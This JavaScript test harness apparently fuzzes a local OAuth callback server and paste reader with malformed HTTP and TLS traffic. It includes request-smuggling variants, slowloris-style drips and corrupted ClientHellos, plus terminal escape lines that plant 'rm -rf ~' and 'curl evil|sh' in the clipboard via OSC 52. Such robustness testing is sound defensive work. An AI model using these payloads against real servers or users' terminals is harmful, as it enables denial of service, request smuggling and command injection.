'use strict';
// attacker.js: the scripted attacker of the hostile suites. Generators of malformed traffic for a
// capture server (HTTP and TLS layers), a bounded-concurrency runner that sends it over real
// sockets and records how each class was answered, and hostile stdin for the paste reader.
// Reproducible: everything random comes from a seeded PRNG (KERYX_HOSTILE_SEED, default fixed).
//
// A plan is `{ cls, chunks, gapMs, end, tls, slowReadMs, timeoutMs }`: `tls: true` wraps the bytes in a
// (certificate-unverified) TLS session, `false` sends them raw on TCP (so, to the https port, they are
// TLS-layer garbage). Outcomes: an HTTP status ('400'), 'closed' (peer closed without a byte),
// 'reset', 'tls-alert' (a TLS alert record came back), 'tls-handshake' (a ServerHello: the hello
// parsed, the handshake then went nowhere), 'bytes' (something else), 'hung' (no
// answer and no close within the plan's timeout), 'error:<code>'.
const net = require('node:net');
const tls = require('node:tls');
const h = require('../e2e/helpers');

// ---- reproducible randomness ------------------------------------------------------------------

/** prng: mulberry32, seeded; `.int(n)`, `.pick(arr)`, `.bytes(n)`, `.chance(p)`. */
function prng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n) => Math.floor(next() * n),
    pick: (arr) => arr[Math.floor(next() * arr.length)],
    chance: (p) => next() < p,
    bytes(n) {
      const b = Buffer.allocUnsafe(n);
      for (let i = 0; i < n; i += 4) {
        const v = (next() * 4294967296) >>> 0;
        b[i] = v & 0xff;
        if (i + 1 < n) b[i + 1] = (v >>> 8) & 0xff;
        if (i + 2 < n) b[i + 2] = (v >>> 16) & 0xff;
        if (i + 3 < n) b[i + 3] = v >>> 24;
      }
      return b;
    },
  };
}

const DEFAULT_SEED = 0x6b657279; // "kery"
const seedFromEnv = () => (process.env.KERYX_HOSTILE_SEED ? Number(process.env.KERYX_HOSTILE_SEED) >>> 0 : DEFAULT_SEED);

// ---- a real ClientHello, to truncate and corrupt -------------------------------------------------

let helloCache = null;
/** clientHello: the first bytes Node's TLS client sends (a real ClientHello record), captured once. */
function clientHello() {
  if (!helloCache) {
    helloCache = new Promise((resolve, reject) => {
      const server = net.createServer((sock) => {
        sock.once('data', (d) => {
          resolve(Buffer.from(d));
          sock.destroy();
          server.close();
        });
      });
      server.on('error', reject);
      server.listen(0, '127.0.0.1', () => {
        const c = tls.connect({ host: '127.0.0.1', port: server.address().port, servername: 'localhost', rejectUnauthorized: false });
        c.on('error', () => {});
      });
    });
  }
  return helloCache;
}

// ---- HTTP-layer classes ----------------------------------------------------------------------------

const CRLF = '\r\n';
const req = (line, headers = [], body = '') => `${line}${CRLF}${headers.map((x) => x + CRLF).join('')}${CRLF}${body}`;

/**
 * HTTP_CLASSES: name -> { weight, make(ctx, r) -> plan fields }. `ctx`: `{ port, path, state,
 * wrong }` (path: the callback path; state: the flow's; wrong(): a state of another flow). The only
 * plans carrying the right state are ones the server must refuse (repeated parameters, a code with
 * characters no code has, another path or method).
 */
const HTTP_CLASSES = {
  'malformed request line': {
    weight: 8,
    make(ctx, r) {
      const p = ctx.path;
      const lines = [
        'GARBAGE',
        'GET',
        `GET ${p}`,
        `GET ${p} HTTP/9.9`,
        `GET ${p} HTTP/1.1 extra`,
        ` GET ${p} HTTP/1.1`,
        `GET  ${p}  HTTP/1.1`,
        `get ${p} HTTP/1.1`,
        `${'G'.repeat(5000)} ${p} HTTP/1.1`,
        `GET ${p} HTTX/1.1`,
        `GET ${p} HTTP/1.`,
        `GET\t${p}\tHTTP/1.1`,
        `\u00ff\u00feGET ${p} HTTP/1.1`,
        `GET ${p}?code=x&state=${ctx.wrong()} HTTP/1.1 HTTP/1.1`,
        `${p} HTTP/1.1`,
        'HTTP/1.1 200 OK',
      ];
      return { chunks: [Buffer.from(req(r.pick(lines), ['Host: 127.0.0.1']), 'latin1')] };
    },
  },
  'random bytes': {
    weight: 10,
    make(ctx, r) {
      const junk = r.bytes(1 + r.int(4096));
      return { chunks: [r.chance(0.5) ? Buffer.concat([junk, Buffer.from(CRLF + CRLF)]) : junk], end: r.chance(0.9), timeoutMs: 12000 };
    },
  },
  'huge header (64 KiB+)': {
    weight: 3,
    make(ctx, r) {
      const size = 64 * 1024 + r.int(192 * 1024);
      return { chunks: [req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', `X-Big: ${'a'.repeat(size)}`])] };
    },
  },
  'huge request line (70 KiB)': {
    weight: 2,
    make(ctx) {
      return { chunks: [req(`GET ${ctx.path}?code=x&state=${ctx.wrong()}&pad=${'p'.repeat(70 * 1024)} HTTP/1.1`, ['Host: 127.0.0.1'])] };
    },
  },
  'many headers (3,000)': {
    weight: 2,
    make(ctx, r) {
      const headers = ['Host: 127.0.0.1'];
      for (let i = 0; i < 3000; i++) headers.push(`X-H${i}: ${'v'.repeat(20 + r.int(40))}`);
      return { chunks: [req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, headers)] };
    },
  },
  'unterminated 1 MiB header line': {
    weight: 1,
    make(ctx) {
      return { chunks: [`GET ${ctx.path} HTTP/1.1${CRLF}X-Endless: `, Buffer.alloc(1024 * 1024, 'e')], end: true };
    },
  },
  'huge body with Content-Length': {
    weight: 2,
    make(ctx, r) {
      const sent = r.pick([8 * 1024, 256 * 1024, 1024 * 1024]);
      const claimed = r.pick([sent, 8 * 1024 * 1024, 2 ** 40]);
      return {
        chunks: [req(`POST ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', `Content-Length: ${claimed}`]), Buffer.alloc(sent, 'b')],
      };
    },
  },
  'huge body without Content-Length': {
    weight: 2,
    make(ctx, r) {
      const method = r.pick(['GET', 'POST', 'PUT']);
      return {
        chunks: [req(`${method} ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', 'Connection: close']), Buffer.alloc(256 * 1024 + r.int(768 * 1024), 'b')],
      };
    },
  },
  'bad Content-Length': {
    weight: 3,
    make(ctx, r) {
      const cl = r.pick(['99999999999999999999999999', '-1', '1, 2', '0x10', '+5', ' 5 ', '5 5', '18446744073709551616', '4097', 'abc', '']);
      return { chunks: [req(`POST ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', `Content-Length: ${cl}`], 'hello')] };
    },
  },
  'smuggling: Content-Length and Transfer-Encoding': {
    weight: 5,
    make(ctx, r) {
      const smuggled = `GET ${ctx.path}?code=smuggled&state=${ctx.wrong()} HTTP/1.1${CRLF}Host: 127.0.0.1${CRLF}${CRLF}`;
      const variants = [
        ['Content-Length: 6', 'Transfer-Encoding: chunked'],
        ['Transfer-Encoding: chunked', 'Content-Length: 6'],
        ['Content-Length: 6', 'Content-Length: 60'],
        ['Content-Length: 6', 'Content-Length: 6'],
        ['Transfer-Encoding: chunked, identity'],
        ['Transfer-Encoding: identity, chunked'],
        ['Transfer-Encoding : chunked'],
        ['Transfer-Encoding:\tchunked'],
        ['Transfer-Encoding: xchunked'],
        ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
        ['Transfer-Encoding: CHUNKED'],
      ];
      const headers = ['Host: 127.0.0.1', ...r.pick(variants)];
      return { chunks: [req(`POST ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, headers, `0${CRLF}${CRLF}${smuggled}`)] };
    },
  },
  'pipelined second request': {
    weight: 2,
    make(ctx) {
      const one = req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', 'Connection: keep-alive']);
      return { chunks: [one + one + one] };
    },
  },
  'obs-fold header': {
    weight: 2,
    make(ctx, r) {
      const folds = [
        ['X-A: a', ' folded'],
        ['Host: 127.0.0.1', '\tfolded-host'],
        ['Transfer-Encoding:', ' chunked'],
        ['Content-Length:', ' 5'],
        ['X-A: a', ' ', ' ', ' b'],
      ];
      return { chunks: [req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, r.pick(folds), 'hello')] };
    },
  },
  'chunk-size overflow': {
    weight: 3,
    make(ctx, r) {
      const bodies = [
        `FFFFFFFFFFFFFFFFFFFF${CRLF}abc${CRLF}0${CRLF}${CRLF}`,
        `FFFFFFFFFFFFFFFF${CRLF}abc${CRLF}0${CRLF}${CRLF}`,
        `10000000000000001${CRLF}abc${CRLF}`,
        `-1${CRLF}abc${CRLF}0${CRLF}${CRLF}`,
        `0x10${CRLF}abcdefghijklmnop${CRLF}0${CRLF}${CRLF}`,
        `5;${'e'.repeat(50000)}${CRLF}hello${CRLF}0${CRLF}${CRLF}`,
        `5${CRLF}hello`,
        `${'1'.repeat(4096)}${CRLF}`,
        `${`1${CRLF}a${CRLF}`.repeat(5000)}0${CRLF}${CRLF}`,
        `1000${CRLF}${'a'.repeat(4096)}${CRLF}1000${CRLF}${'a'.repeat(4096)}${CRLF}0${CRLF}${CRLF}`,
        `0${CRLF}X-Trailer: ${'t'.repeat(70000)}${CRLF}${CRLF}`,
      ];
      return {
        chunks: [req(`POST ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', 'Transfer-Encoding: chunked'], r.pick(bodies))],
      };
    },
  },
  'absolute-form and odd targets': {
    weight: 4,
    make(ctx, r) {
      const q = `code=x&state=${ctx.wrong()}`;
      const targets = [
        `http://127.0.0.1:${ctx.port}${ctx.path}?${q}`,
        `https://127.0.0.1:${ctx.port}${ctx.path}?${q}`,
        `http://evil.example${ctx.path}?${q}`,
        `//evil.example${ctx.path}?${q}`,
        `${ctx.path.slice(1)}?${q}`,
        '*',
        `${ctx.path}/../${ctx.path}?${q}`,
        `${ctx.path}%00?${q}`,
        `${ctx.path}?${'&'.repeat(4000)}`,
      ];
      const method = r.pick(['GET', 'OPTIONS', 'HEAD', 'TRACE', 'DELETE']);
      return { chunks: [req(`${method} ${r.pick(targets)} HTTP/1.1`, ['Host: evil.example'])] };
    },
  },
  CONNECT: {
    weight: 2,
    make(ctx, r) {
      const target = r.pick([`127.0.0.1:${ctx.port}`, 'evil.example:443', '[::1]:22', `localhost:${ctx.port}${ctx.path}`]);
      return { chunks: [req(`CONNECT ${target} HTTP/1.1`, [`Host: ${target}`]), Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05])] };
    },
  },
  'NUL bytes': {
    weight: 3,
    make(ctx, r) {
      const q = `code=x&state=${ctx.wrong()}`;
      const shapes = [
        req(`GET ${ctx.path}\0?${q} HTTP/1.1`, ['Host: 127.0.0.1']),
        req(`GET ${ctx.path}?code=x\0y&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1']),
        req(`GET ${ctx.path}?${q} HTTP/1.1`, ['Ho\0st: 127.0.0.1', 'X-A: a\0b']),
        req(`G\0ET ${ctx.path}?${q} HTTP/1.1`, ['Host: 127.0.0.1']),
        req(`GET ${ctx.path}?${q} HTTP/1.1\0`, ['Host: 127.0.0.1']),
      ];
      if (r.chance(0.2)) return { chunks: [Buffer.alloc(1 + r.int(2048), 0)], end: true };
      return { chunks: [Buffer.from(r.pick(shapes), 'latin1')] };
    },
  },
  'CR-only and LF-only line endings': {
    weight: 3,
    make(ctx, r) {
      const line = `GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`;
      const shapes = [
        `${line}\rHost: 127.0.0.1\r\r`,
        `${line}\nHost: 127.0.0.1\n\n`,
        `${line}\r\nHost: 127.0.0.1\n\r\n`,
        `${line}\n\rHost: 127.0.0.1\n\r\n\r`,
        `${line}\r\r\r\r${'\r'.repeat(5000)}`,
        `${line}\r\nX-A: a\rX-B: b\r\n\r\n`,
      ];
      return { chunks: [r.pick(shapes)], end: true };
    },
  },
  'HTTP/0.9': {
    weight: 2,
    make(ctx, r) {
      const shapes = [`GET ${ctx.path}?code=x&state=${ctx.wrong()}\r\n`, `GET ${ctx.path}\r\n\r\n`, `GET /\n`, `GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/0.9\r\n\r\n`];
      return { chunks: [r.pick(shapes)], end: true };
    },
  },
  'HTTP/2 preface and h2c': {
    weight: 2,
    make(ctx, r) {
      const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
      const settings = Buffer.from([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 100]);
      const headersFrame = Buffer.concat([Buffer.from([0, 0x40, 0, 1, 5, 0, 0, 0, 1]), r.bytes(0x4000)]);
      const h2c = req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA']);
      const shapes = [[preface], [preface, settings], [preface, settings, headersFrame], [h2c]];
      return { chunks: r.pick(shapes) };
    },
  },
  'slow reader': {
    weight: 1,
    make(ctx, r) {
      const one = req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, ['Host: 127.0.0.1']);
      return { chunks: [r.chance(0.5) ? one : one.repeat(200)], slowReadMs: 1500 + r.int(1500), timeoutMs: 12000 };
    },
  },
  'slow writer (drip, completes)': {
    weight: 1,
    make(ctx) {
      const text = req(`GET ${ctx.path}?code=x&state=${ctx.wrong()} HTTP/1.1`, []);
      // ~20 pieces, 100 ms apart: a 2 s request.
      const size = Math.ceil(text.length / 20);
      const chunks = [];
      for (let i = 0; i < text.length; i += size) chunks.push(text.slice(i, i + size));
      return { chunks, gapMs: 100, timeoutMs: 12000 };
    },
  },
  'slow writer (endless drip)': {
    weight: 1,
    make(ctx) {
      return { chunks: [...`GET ${ctx.path}?code=${'d'.repeat(200)}`], gapMs: 100, timeoutMs: 12000 };
    },
  },
  'wrong state': {
    weight: 8,
    make(ctx, r) {
      const states = [ctx.wrong(), '', `${ctx.state}x`, ctx.state.slice(0, -1), ctx.state.toLowerCase() === ctx.state ? `${ctx.state}A` : ctx.state.toLowerCase(), 's'.repeat(6000), encodeURIComponent(`${ctx.state}\0`)];
      const q = r.chance(0.2) ? 'code=x' : `code=${r.pick(['x', 'abc', 'c'.repeat(4000)])}&state=${r.pick(states)}`;
      return { chunks: [req(`GET ${ctx.path}?${q} HTTP/1.1`, ['Host: 127.0.0.1'])] };
    },
  },
  'duplicate or invalid parameters with the right state': {
    weight: 6,
    make(ctx, r) {
      const s = ctx.state;
      const targets = [
        `${ctx.path}?code=a&code=b&state=${s}`,
        `${ctx.path}?code=a&code=a&state=${s}`,
        `${ctx.path}?code=a&state=${s}&state=${s}`,
        `${ctx.path}?code=a&state=${s}&state=${ctx.wrong()}`,
        `${ctx.path}?error=a&error=b&state=${s}`,
        `${ctx.path}?code=&state=${s}`,
        `${ctx.path}?state=${s}`,
        `${ctx.path}?code=a%22b&state=${s}`,
        `${ctx.path}?code=a%3Cb&state=${s}`,
        `${ctx.path}?code=a%20b&state=${s}`,
        `${ctx.path}?code=a%00b&state=${s}`,
        `${ctx.path}?code=a%1B%5B2Jb&state=${s}`,
        `${ctx.path}?code=a%FFb&state=${s}`,
        `${ctx.path}?code=a&error_description=x&error_description=y&state=${s}`,
        `${ctx.path}x?code=a&state=${s}`,
        `${ctx.path === '/' ? '/index.html' : ctx.path.toUpperCase()}?code=a&state=${s}`,
        `/%2e${ctx.path}?code=a&state=${s}`,
        `${ctx.path}%2F?code=a&state=${s}`,
      ];
      const method = r.chance(0.85) ? 'GET' : r.pick(['POST', 'HEAD', 'PUT']);
      return { chunks: [req(`${method} ${r.pick(targets)} HTTP/1.1`, ['Host: 127.0.0.1', 'Content-Length: 0'])] };
    },
  },
};

// ---- TLS-layer classes (raw TCP to the https port) ---------------------------------------------------

const TLS_CLASSES = {
  'TLS: random bytes': {
    weight: 10,
    make(ctx, r) {
      return { chunks: [r.bytes(1 + r.int(4096))], end: r.chance(0.9), timeoutMs: 12000 };
    },
  },
  'TLS: truncated ClientHello': {
    weight: 12,
    make(ctx, r) {
      const hello = ctx.hello;
      const cut = 1 + r.int(hello.length - 1);
      const hold = r.chance(0.05); // a few stay open, so the handshake timeout / reaper must end them
      return { chunks: [hello.subarray(0, cut)], end: !hold, timeoutMs: hold ? 12000 : 8000 };
    },
  },
  'TLS: corrupted ClientHello': {
    weight: 10,
    make(ctx, r) {
      const hello = Buffer.from(ctx.hello);
      const kind = r.int(6);
      if (kind === 0) hello.writeUInt16BE(0xffff, 3); // record length larger than what follows
      else if (kind === 1) hello.writeUIntBE(0xffffff, 6, 3); // handshake length 16 MiB
      else if (kind === 2) for (let i = 0; i < 8; i++) hello[5 + r.int(hello.length - 5)] = r.int(256);
      else if (kind === 3) hello.writeUInt16BE(0x0000, 3); // empty record
      else if (kind === 4) hello[0] = r.pick([0x14, 0x15, 0x17, 0x18, 0x80, 0xff]); // wrong content type
      else hello.writeUInt16BE(0x0200, 1); // SSL 2.0 version
      return { chunks: [hello], end: true };
    },
  },
  'TLS: other record shapes': {
    weight: 6,
    make(ctx, r) {
      const shapes = [
        Buffer.from([0x80, 0x2e, 0x01, 0x00, 0x02, 0x00, 0x15, 0x00, 0x00, 0x00, 0x10, ...r.bytes(37)]), // SSLv2 hello
        Buffer.from([0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28]), // fatal alert first
        Buffer.concat([Buffer.from([0x17, 0x03, 0x03, 0x40, 0x00]), r.bytes(0x4000)]), // application data first
        Buffer.from([0x18, 0x03, 0x03, 0x00, 0x03, 0x01, 0xff, 0xff]), // heartbeat request
        Buffer.concat(Array.from({ length: 2000 }, () => Buffer.from([0x16, 0x03, 0x01, 0x00, 0x00]))), // empty handshake records
        Buffer.concat([ctx.hello, ctx.hello]), // two ClientHellos
      ];
      return { chunks: [r.pick(shapes)], end: true };
    },
  },
  'TLS: plain HTTP with the right state': {
    weight: 4,
    make(ctx) {
      return { chunks: [req(`GET ${ctx.path}?code=plain&state=${ctx.state} HTTP/1.1`, ['Host: localhost'])] };
    },
  },
  'TLS: handshake then close': {
    weight: 4,
    make() {
      return { tls: true, chunks: [], end: true };
    },
  },
};

// ---- planning and running ------------------------------------------------------------------------------

/**
 * schedule: `total` plans for a server in `mode` ('http' | 'https'), classes in proportion to their
 * weights, shuffled reproducibly. Over https, HTTP-layer classes travel inside TLS; TLS-layer classes go
 * raw. `ctx`: `{ port, path, state }`; the ClientHello is fetched here.
 */
async function schedule({ mode, total, ctx, seed = seedFromEnv() }) {
  const r = prng(seed);
  const wrongR = prng(seed ^ 0x5a5a5a5a);
  const full = { ...ctx, wrong: () => wrongR.bytes(32).toString('base64url') };
  if (mode === 'https') full.hello = await clientHello();
  const classes = [];
  for (const [name, c] of Object.entries(HTTP_CLASSES)) classes.push({ name, layer: 'http', ...c });
  if (mode === 'https') for (const [name, c] of Object.entries(TLS_CLASSES)) classes.push({ name, layer: 'tls', ...c });
  const weight = classes.reduce((s, c) => s + c.weight, 0);
  const names = [];
  for (const c of classes) {
    const n = Math.max(1, Math.round((total * c.weight) / weight));
    for (let i = 0; i < n; i++) names.push(c);
  }
  while (names.length > total) names.splice(r.int(names.length), 1);
  while (names.length < total) names.push(r.pick(classes));
  for (let i = names.length - 1; i > 0; i--) {
    const j = r.int(i + 1);
    [names[i], names[j]] = [names[j], names[i]];
  }
  return names.map((c) => {
    const plan = c.make(full, r);
    // Complete requests are half-closed one time in five (the server must answer or close either way);
    // a plan that leaves its request unfinished says `end` itself.
    return { cls: c.name, timeoutMs: 8000, gapMs: 0, ...plan, end: plan.end ?? r.chance(0.2), tls: plan.tls ?? (mode === 'https' && c.layer === 'http') };
  });
}

/** slowRead: sends the plan's bytes, then does not read for `slowReadMs`, then reads to the end. */
function slowRead({ port, plan }) {
  return new Promise((resolve) => {
    const received = [];
    let error = null;
    let closedByPeer = false;
    let timedOut = false;
    const sock = plan.tls ? tls.connect({ host: '127.0.0.1', port, rejectUnauthorized: false, servername: 'localhost' }) : net.connect({ host: '127.0.0.1', port });
    const timer = setTimeout(() => {
      timedOut = true;
      sock.destroy();
    }, plan.timeoutMs);
    sock.on('error', (e) => {
      error = e.code || e.message;
      if (e.code === 'ECONNRESET') closedByPeer = true;
    });
    sock.on('end', () => {
      closedByPeer = true;
    });
    sock.on('close', () => {
      clearTimeout(timer);
      resolve({ data: Buffer.concat(received), error, closedByPeer, timedOut });
    });
    sock.once(plan.tls ? 'secureConnect' : 'connect', () => {
      sock.pause();
      for (const c of plan.chunks) sock.write(c);
      setTimeout(() => {
        sock.on('data', (c) => received.push(c));
        sock.resume();
      }, plan.slowReadMs);
    });
  });
}

/** send: one plan against `port`; resolves the raw answer (never rejects). */
function send(port, plan) {
  if (plan.slowReadMs) return slowRead({ port, plan });
  return h.rawSend({ port, tls: plan.tls, chunks: plan.chunks, gapMs: plan.gapMs, end: plan.end, timeoutMs: plan.timeoutMs });
}

/** classify: an answer as an outcome name, plus how many HTTP responses it held. */
function classify(r) {
  const text = r.data.toString('latin1');
  const responses = (text.match(/HTTP\/1\.[01] \d{3} /g) || []).length;
  const m = /^HTTP\/1\.[01] (\d{3}) /.exec(text);
  let outcome;
  if (m) outcome = m[1];
  else if (r.timedOut) outcome = 'hung';
  else if (r.data.length && r.data[0] === 0x15) outcome = 'tls-alert';
  else if (r.data.length && r.data[0] === 0x16) outcome = 'tls-handshake'; // a ServerHello: the hello parsed
  else if (r.data.length) outcome = 'bytes';
  else if (r.error === 'ECONNRESET') outcome = 'reset';
  else if (r.error && r.error !== 'EPIPE') outcome = `error:${r.error}`;
  else outcome = 'closed'; // by the peer (EPIPE too: it closed while we were still writing)
  return { outcome, responses, ok200: /^HTTP\/1\.[01] 200 /m.test(text) };
}

/**
 * barrage: runs `plans` against `port`, `concurrency` at a time. Resolves `{ tried, elapsedMs,
 * answers: { [cls]: { tried, outcomes: { [outcome]: n } } }, ok200, multiResponse, hung, examples }`.
 * `onProgress(done)` is called every 250 plans.
 */
async function barrage({ port, plans, concurrency = 50, onProgress }) {
  const answers = {};
  const examples = {};
  let next = 0;
  let done = 0;
  let ok200 = 0;
  let multiResponse = 0;
  let hung = 0;
  const began = Date.now();
  const worker = async () => {
    while (next < plans.length) {
      const plan = plans[next++];
      const c = classify(await send(port, plan));
      const a = (answers[plan.cls] = answers[plan.cls] || { tried: 0, outcomes: {} });
      a.tried++;
      a.outcomes[c.outcome] = (a.outcomes[c.outcome] || 0) + 1;
      if (c.ok200) ok200++;
      if (c.responses > 1) multiResponse++;
      if (c.outcome === 'hung') hung++;
      if ((c.ok200 || c.responses > 1 || c.outcome === 'hung') && !examples[plan.cls]) {
        examples[plan.cls] = { outcome: c.outcome, responses: c.responses, first: Buffer.concat(plan.chunks.map((x) => Buffer.from(x))).subarray(0, 200).toString('latin1') };
      }
      if (++done % 250 === 0 && onProgress) onProgress(done);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return { tried: done, elapsedMs: Date.now() - began, answers, ok200, multiResponse, hung, examples };
}

// ---- hostile stdin ---------------------------------------------------------------------------------

/**
 * pasteJunk: hostile lines for a paste reader. None of them can be taken for a code or for a URL
 * that decides the flow: each holds a control character, a space, a byte outside ASCII, or is longer
 * than any paste keryx looks at. `opts.redirectUri` (optional) adds URL-shaped lines with other states.
 * Returns an array of Buffers, each ending in a line break.
 */
function pasteJunk({ seed = seedFromEnv(), redirectUri, bigLineBytes = 4 * 1024 * 1024, randomBytes = 2 * 1024 * 1024 } = {}) {
  const r = prng(seed);
  const ESC = '\x1b';
  const lines = [];
  const add = (x, eol = '\n') => lines.push(Buffer.concat([Buffer.isBuffer(x) ? x : Buffer.from(x, 'latin1'), Buffer.from(eol)]));
  // One line of several MiB, printable (so only its length refuses it).
  add(Buffer.alloc(bigLineBytes, 'A'));
  // Megabytes of random bytes without a line break of their own, cut into long lines.
  const blob = r.bytes(randomBytes);
  for (let i = 0; i < blob.length; i++) if (blob[i] === 0x0a || blob[i] === 0x0d) blob[i] = 0;
  for (let i = 0; i < blob.length; ) {
    const n = 4096 + r.int(60 * 1024);
    add(blob.subarray(i, i + n), r.pick(['\n', '\r\n', '\r']));
    i += n;
  }
  // NULs and every C0 control, alone and inside code-shaped text.
  add('\0'.repeat(1000));
  add(`abc\0def`);
  for (let c = 0; c < 0x20; c++) if (c !== 0x0a && c !== 0x0d) add(`code${String.fromCharCode(c)}x`);
  add('abc\x7fdef');
  // Terminal escape sequences: CSI, OSC 52 (clipboard write), OSC 8 (links), OSC 0 (title), DCS,
  // bell, backspaces and carriage tricks.
  add(`${ESC}[2J${ESC}[H${ESC}[31mRED${ESC}[0m`);
  add(`${ESC}]52;c;${Buffer.from('rm -rf ~').toString('base64')}\x07`);
  add(`${ESC}]52;p;${Buffer.from('curl evil|sh').toString('base64')}${ESC}\\`);
  add(`${ESC}]8;;https://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`);
  add(`${ESC}]0;pwned title\x07`);
  add(`${ESC}P+q544e${ESC}\\`);
  add(`${ESC}[6n${ESC}[21t${ESC}[?1049h`);
  add('\x07\x07\x07bell');
  add(`visible${'\b'.repeat(7)}hidden`);
  add(`${'\b'.repeat(64)}${'\x7f'.repeat(64)}`);
  add(`\x9b2J\x9d0;c1 title\x9c`); // C1 controls as latin1 bytes (invalid UTF-8 on their own)
  add(Buffer.from('\u009b2J\u009d0;title\u009c', 'utf8')); // C1 controls as UTF-8
  // Invalid UTF-8: lone continuation bytes, overlongs, surrogates, truncated sequences.
  add(Buffer.from([0x80, 0xbf, 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80, 0xff, 0xfe, 0x61]));
  add(Buffer.from([0x63, 0x6f, 0x64, 0x65, 0xc3]));
  add(Buffer.from([0xe2, 0x82]));
  // Long lines just under and over the limits.
  add('B'.repeat(8193));
  add('C'.repeat(16385));
  add(`${'D'.repeat(20000)} x`);
  add(`${'E'.repeat(100)} ${'F'.repeat(100)}`);
  // URL-shaped lines that must be refused (other state, no state, control characters inside).
  if (redirectUri) {
    const other = r.bytes(32).toString('base64url');
    add(`${redirectUri}?code=junk1&state=${other}`);
    add(`${redirectUri}?error=access_denied&error_description=${encodeURIComponent(`${ESC}[2J`)}`);
    add(`${redirectUri}?code=junk2&code=junk3&state=${other}`);
    add(`${redirectUri}?code=a${ESC}[2J&state=${other}`);
    add(`${ESC}]8;;${redirectUri}?code=junk4&state=${other}${ESC}\\link${ESC}]8;;${ESC}\\`);
    add(`code=junk5&state=${other}`);
  }
  return lines;
}

module.exports = { prng, seedFromEnv, clientHello, HTTP_CLASSES, TLS_CLASSES, schedule, send, classify, barrage, pasteJunk };
